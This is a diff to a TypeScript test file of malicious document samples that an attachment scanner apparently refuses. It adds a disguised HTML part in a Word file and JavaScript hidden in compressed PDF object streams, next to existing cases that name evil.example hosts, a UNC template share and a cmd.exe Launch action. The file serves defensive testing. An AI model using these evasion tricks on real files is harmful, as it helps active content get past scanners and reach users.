@@ -107,6 +107,11 @@ export const REFUSED: [what: string, file: Uint8Array, code: string][] = [
     'attachment-active',
   ],
   ['a web page in a Word file', inWord({ 'word/afchunk.html': '<script/>' }), 'attachment-active'],
+  [
+    'a web page under another name',
+    inWord({ 'word/part.dat': '<script/>' }, '<Override PartName="/word/part.dat" ContentType="text/html"/>'),
+    'attachment-active',
+  ],
   ['a template from elsewhere', rels('attachedTemplate', 'https://evil.example/a.dotm'), 'attachment-active'],
   ['a template from a share', rels('attachedTemplate', '\\\\10.0.0.1\\a.dotm'), 'attachment-active'],
   [
@@ -156,6 +161,12 @@ export const REFUSED: [what: string, file: Uint8Array, code: string][] = [
   ['a PDF with a script', pdf(['<< /S /JavaScript /JS (app.alert(1)) >>']), 'attachment-active'],
   ['a script that is spelled otherwise', pdf(['<< /S /J#61vaScript /J#53 (app.alert(1)) >>']), 'attachment-active'],
   ['a script in an object stream', pdf([], ['5 0 << /S /JavaScript /JS (x) >>']), 'attachment-active'],
+  ['a script in an object stream whose filter lies elsewhere', inObjects('/Filter 7 0 R'), 'attachment-damaged'],
+  [
+    'a script in an object stream that begins as some readers bear it',
+    inObjects('/Filter /FlateDecode', '\r'),
+    'attachment-active',
+  ],
   ['a program that is begun', pdf(['<< /S /Launch /F (cmd.exe) >>']), 'attachment-active'],
   ['a file in a PDF', pdf(['<< /Names << /EmbeddedFiles 3 0 R >> >>']), 'attachment-active'],
   ['a form that sends', pdf(['<< /S /SubmitForm /F (http://evil.example) >>']), 'attachment-active'],
@@ -170,6 +181,15 @@ function claiming(side: number): Buffer {
   file.writeUInt32BE(side, 16)
   file.writeUInt32BE(side, 20)
   return file
+}
+
+/** A script packed into an object stream, with what its dictionary says of the filter, and the line end behind `stream`. */
+function inObjects(filter: string, lineEnd = '\n'): Buffer {
+  const packed = deflateSync('5 0 << /S /JavaScript /JS (x) >>')
+  const [head = '', tail = ''] = pdf([`<< /Type /ObjStm /N 1 /First 4 ${filter} >>\nstream${lineEnd}HERE\nendstream`])
+    .toString('latin1')
+    .split('HERE')
+  return Buffer.concat([Buffer.from(head, 'latin1'), packed, Buffer.from(tail, 'latin1')])
 }
 
 function bombInPdf(): Buffer {
